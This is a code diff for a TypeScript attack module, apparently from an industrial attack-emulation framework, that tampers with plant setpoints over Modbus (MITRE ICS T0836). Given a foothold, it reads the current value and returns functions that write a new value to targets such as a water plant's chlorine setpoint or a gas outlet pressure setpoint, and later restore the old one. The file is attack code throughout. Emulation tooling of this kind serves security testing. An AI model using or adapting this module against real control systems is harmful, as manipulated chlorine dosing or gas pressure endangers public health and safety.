@@ -1,31 +1,43 @@
-// T0836 Modify Parameter: a foreign Modbus client writes a setpoint far outside its agreed band with function 6.
+// T0836 Modify Parameter: a foreign Modbus client writes a setpoint far outside its agreed band.
 import { z } from 'zod'
-import { readWords, writeRegister } from '../plc/modbus-words.ts'
-import { SETPOINTS } from '../plc/water-registers.ts'
+import type { PlantKind } from '../plants/plant.ts'
+import { ModbusDesk } from '../plc/modbus-desk.ts'
 import type { Attack } from './attack.ts'
 import { InsistSeconds } from './insist.ts'
+import { TargetTag } from './target.ts'
+
+const USUAL: Record<PlantKind, { tag: string; value: number }> = {
+  water: { tag: 'chlorine.setpoint', value: 1.8 },
+  heat: { tag: 'curve.shift-setpoint', value: 15 },
+  gas: { tag: 'outlet.pressure-setpoint', value: 5 }
+}
 
 const Parameters = z.strictObject({
-  tag: z
-    .enum(['chlorine.setpoint', 'tower.start-setpoint', 'tower.stop-setpoint', 'pump1.speed-setpoint', 'pump2.speed-setpoint'])
-    .default('chlorine.setpoint')
-    .describe('The setpoint that is changed.'),
-  value: z.number().min(0).max(100).default(1.8).describe('The value that is written, in the unit of the tag.'),
+  tag: TargetTag('setpoint').optional().describe('The setpoint that is changed; by default one that matters in the plant.'),
+  value: z.number().optional().describe('The value that is written, in the unit of the tag; needed with a tag of your own.'),
   insistSeconds: InsistSeconds
 })
 
 export const setpointTamper = {
   name: 'setpoint-tamper',
+  title: { zh: '设定值篡改', en: 'Tampered setpoint' },
   technique: 'T0836',
   parameters: Parameters,
   async aim(foothold, { tag, value, insistSeconds }) {
+    const usual = USUAL[foothold.map.plant]
+    const target = tag ?? usual.tag
     await using link = await foothold.link()
-    const register = SETPOINTS[tag]
-    const [before = 0] = await readWords(link, 3, register.address, 1)
+    const desk = new ModbusDesk({ map: foothold.map, link })
+    await desk.look(foothold.seconds)
+    const before = desk.value(target)
     const write = async (setpoint: number) => {
       await using own = await foothold.link()
-      await writeRegister(own, register, setpoint)
+      await new ModbusDesk({ map: foothold.map, link: own }).write({ [target]: setpoint })
     }
-    return { tags: [tag], hosts: [link.host], insistSeconds, strike: () => write(value), undo: () => write(before * register.scale) }
+    return {
+      ...{ tags: [target], hosts: [link.host], insistSeconds },
+      strike: () => write(value ?? usual.value),
+      undo: () => write(before)
+    }
   }
 } satisfies Attack<typeof Parameters>
